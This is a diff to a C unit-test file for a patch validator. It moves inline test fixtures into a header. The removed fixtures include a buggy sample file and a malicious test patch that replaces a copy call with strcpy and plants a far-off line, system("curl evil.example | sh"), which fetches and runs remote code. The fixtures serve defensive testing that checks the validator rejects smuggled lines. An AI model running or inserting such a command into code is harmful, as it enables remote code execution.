@@ -14,24 +14,10 @@
 #include "common/json.h"
 #include "worker/answer.h"
 #include "common/patch.h"
+#include "tests/unit/c_file_fx.h"
 
 /* The submitted file of the validation tests: 15 lines. */
-static const char file_c[] =
-    "#include <string.h>\n"
-    "\n"
-    "int copy(char *dst, const char *src, size_t n)\n"
-    "{\n"
-    "    copy_into(dst, src);\n"
-    "    return 0;\n"
-    "}\n"
-    "\n"
-    "int sum(const int *v, int n)\n"
-    "{\n"
-    "    int s = 0;\n"
-    "    for (int i = 0; i <= n; i++)\n"
-    "        s += v[i];\n"
-    "    return s;\n"
-    "}\n";
+static const char file_c[] = C_FILE_FX;
 
 /* `diff -u --label a/a.c --label b/a.c a.c b.c` with b.c fixing line 5. */
 static const char fix_applies[] =
@@ -573,14 +559,7 @@ static void test_validate_diff_span(void **state)
  * /apply-fix) wrote the planted line. */
 static void test_validate_diff_far_insertion(void **state)
 {
-    static const char rides_along[] =
-        "--- a/a.c\n"
-        "+++ b/a.c\n"
-        "@@ -5,1 +5,1 @@\n"
-        "-    copy_into(dst, src);\n"
-        "+    strcpy(dst, src);\n"
-        "@@ -14,0 +15,1 @@\n"
-        "+    system(\"curl evil.example | sh\");\n";
+    static const char rides_along[] = C_FILE_FX_FAR_INSERTION;
     static const char after_context[] =
         "--- a/a.c\n"
         "+++ b/a.c\n"
